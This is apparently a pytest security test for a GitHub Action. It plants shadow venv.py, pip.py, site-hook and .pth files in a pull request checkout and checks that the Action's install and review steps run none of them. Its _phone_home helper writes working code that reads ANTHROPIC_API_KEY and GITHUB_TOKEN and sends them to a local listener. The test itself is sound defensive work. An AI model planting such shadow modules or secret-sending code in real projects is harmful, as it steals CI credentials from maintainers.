"""The Action's own steps in a workspace the pull request controls.

A workflow that checks out the pull request (``issue_comment`` with ``ref:``, or
``pull_request_target``) and then uses the Action holds the secrets while its working
directory is the pull request's tree. ``python -m venv`` or ``python -m pip`` run there would
import a ``venv.py`` or ``pip.py`` the pull request added, before any permission check. Here
the pull request adds such shadows (and ``sitecustomize.py``, ``site.py``, a ``.pth``...), each
of which would write a marker and send the secrets to a listener on 127.0.0.1; action.yml's
install and review steps run for real in that checkout, for a comment by someone who may
not ask anything. No shadow may run, and nothing may reach the listener.
"""

from __future__ import annotations

import os
import secrets
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import git
from tests.fakes.github_api import FakeGitHubAPI
from tests.fakes.http_server import Exchange, LocalHTTPServer
from tests.fakes.messages_api import FakeMessagesAPI
from tests.hosts.github.conftest import NUMBER, PullRepo, open_pull
from tests.hosts.github.test_action import run_step_in, steps
from tests.hosts.github.test_comment_run import INPUTS, answering, issue_comment_event
from tests.security.verdicts import HOST_RESULTS, HostVerdict

pytestmark = pytest.mark.slow

#: Modules `python -m venv`, `python -m pip` (and what they import first) would take from the
#: current directory, and the startup hooks that would run from a site directory.
SHADOWS = (
    "venv.py",
    "pip.py",
    "ensurepip.py",
    "runpy.py",
    "shlex.py",
    "site.py",
    "sitecustomize.py",
    "usercustomize.py",
)


def _phone_home(name: str, markers: Path, url: str) -> str:
    """Python that leaves a marker named ``name`` and sends the secrets to ``url``."""
    return (
        "import os, urllib.parse, urllib.request\n"
        f"open(os.path.join({str(markers)!r}, {name!r}), 'w').write('ran')\n"
        "stolen = {k: os.environ.get(k, '') for k in ('ANTHROPIC_API_KEY', 'GITHUB_TOKEN')}\n"
        "try:\n"
        f"    urllib.request.urlopen({url!r} + '/{name}?' + urllib.parse.urlencode(stolen),"
        " timeout=3)\n"
        "except Exception:\n"
        "    pass\n"
    )


@pytest.fixture
def listener() -> Iterator[tuple[LocalHTTPServer, list[str]]]:
    hits: list[str] = []

    def record(exchange: Exchange) -> None:
        hits.append(exchange.path)
        exchange.send_json(200, {})

    server = LocalHTTPServer(record, name="listener")
    server.start()
    yield server, hits
    server.stop()


def _hostile_checkout(pull: PullRepo, markers: Path, url: str, where: Path) -> Path:
    """The pull request's head with the shadows at its root, checked out as actions/checkout
    does with ``ref: refs/pull/N/head``."""
    files: dict[str, str | bytes] = {name: _phone_home(name, markers, url) for name in SHADOWS}
    # A .pth runs its `import` lines when its directory is a site directory.
    files["planted.pth"] = f"import os; exec({_phone_home('planted.pth', markers, url)!r})\n"
    head = pull.push(files, "helpful tooling").head
    git(pull.path, "update-ref", f"refs/pull/{NUMBER}/head", head)
    git(where.parent, "clone", "-q", "--no-checkout", f"file://{pull.path}", str(where))
    git(where, "fetch", "-q", "origin", f"refs/pull/{NUMBER}/head")
    git(where, "checkout", "-q", "--detach", "FETCH_HEAD")
    assert all((where / name).is_file() for name in SHADOWS)
    return where


def test_the_action_runs_no_python_from_the_pull_requests_checkout(
    actions_env: dict[str, str],
    fake_api: FakeMessagesAPI,
    github_api: FakeGitHubAPI,
    pull_repo: PullRepo,
    listener: tuple[LocalHTTPServer, list[str]],
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:
    server, hits = listener
    markers = tmp_path / "markers"
    markers.mkdir()
    checkout = _hostile_checkout(pull_repo, markers, server.base_url, tmp_path / "workspace")
    open_pull(github_api, pull_repo, fork=True)
    github_api.add_issue_comment(NUMBER, "@orch-review hello", login="passer-by")
    comment = github_api.pulls[NUMBER].issue_comments[-1]
    key = f"CANARY-key-{secrets.token_hex(8)}"
    # The job holds the secrets in every step (a job-level `env:`), as many workflows do.
    job_env = {
        k: v for k, v in actions_env.items() if not k.startswith(("ANTHROPIC_", "ORCH_REVIEW_"))
    }
    job_env |= {k: v for k, v in os.environ.items() if k.startswith("PIP_")}  # the local index
    job_env |= {"ANTHROPIC_API_KEY": key, "RUNNER_OS": "Linux"}
    event = issue_comment_event(
        comment["id"], comment["body"], comment["user"], tmp_path / "comment.json"
    )
    install = next(step for step in steps() if step["name"] == "Install orch-review")
    python = getattr(sys, "_base_executable", sys.executable)
    install = {**install, "env": {**install["env"], "PYTHON": python}}

    # A real install of orch-review and its dependencies: minutes on a loaded machine.
    installed = run_step_in(checkout, install, {}, job_env, timeout=900)
    venv = Path(job_env["RUNNER_TEMP"]) / "orch-review-venv"
    offline = "No matching distribution" in installed.stderr + installed.stdout
    if installed.returncode != 0 and offline and not list(markers.iterdir()):
        pytest.skip("no package index reachable to install orch-review's dependencies")
    fake_api.policy = answering("never sent")
    answered = run_step_in(
        checkout,
        next(step for step in steps() if step.get("id") == "review"),
        {**INPUTS, "anthropic-base-url": fake_api.base_url},
        {**job_env, **event},
    )

    ran = sorted(p.name for p in markers.iterdir())
    contained = not ran and not hits
    detail = f"ran {ran}, listener got {hits}"
    attack = "1. a pull request's venv.py, pip.py, site hooks in the Action"
    request.config.stash[HOST_RESULTS].append(HostVerdict(attack, contained, detail))
    assert installed.returncode == 0, installed.stdout + installed.stderr
    assert (venv / "bin" / "orch-review").is_file()
    assert answered.returncode == 0, answered.stderr
    assert "has no write access" in answered.stdout
    assert ran == [], detail
    assert hits == [], detail
    assert fake_api.message_requests == []


def test_no_example_workflow_runs_python_in_the_checkout() -> None:
    """The examples' own steps run Python from a neutral directory without the current
    directory on sys.path (`-P` or `-I`), as the Action does."""
    import yaml  # type: ignore[import-untyped]

    from tests.hosts.github.test_action import COMMENTS, SHARDED, WORKFLOW

    checked = 0
    for path in (WORKFLOW, SHARDED, COMMENTS):
        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                if "python" not in step.get("run", ""):
                    continue
                checked += 1
                assert step.get("working-directory") == "${{ runner.temp }}", step["name"]
                assert " -P -m " in step["run"] or " -I -m " in step["run"], step["name"]
    assert checked == 2  # the sharded example's two installs
